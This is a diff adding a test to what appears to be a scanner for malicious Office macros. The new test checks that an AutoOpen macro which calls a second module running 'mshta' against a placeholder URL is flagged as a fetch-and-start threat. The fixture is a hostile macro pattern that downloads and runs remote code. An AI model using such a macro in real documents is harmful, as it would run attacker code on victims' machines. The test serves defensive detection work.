@@ -104,6 +104,14 @@ def test_macro_that_fetches_and_starts_is_a_threat_where_it_runs_by_itself(code:
     assert threat_in(with_macro(f"Sub Update()\r\n{code}\r\nEnd Sub\r\n".encode())) is None
 
 
+def test_macro_that_starts_in_one_module_and_fetches_in_another_is_a_threat() -> None:
+    modules = {
+        "VBA/ThisDocument": vba_stream(b"Sub AutoOpen()\r\nFetch\r\nEnd Sub\r\n"),
+        "VBA/Module1": vba_stream(b'Sub Fetch()\r\nShell "mshta http://example.org/a"\r\nEnd Sub\r\n'),
+    }
+    assert threat_in(docx(compound(modules), "word/vbaProject.bin")) == "Macro.Fetches-And-Starts"
+
+
 @each_row("code", NOT_BOTH)
 def test_macro_that_does_not_fetch_and_start_is_no_threat(code: str) -> None:
     assert threat_in(with_macro(f"Sub AutoOpen()\r\n{code}\r\nEnd Sub\r\n".encode())) is None
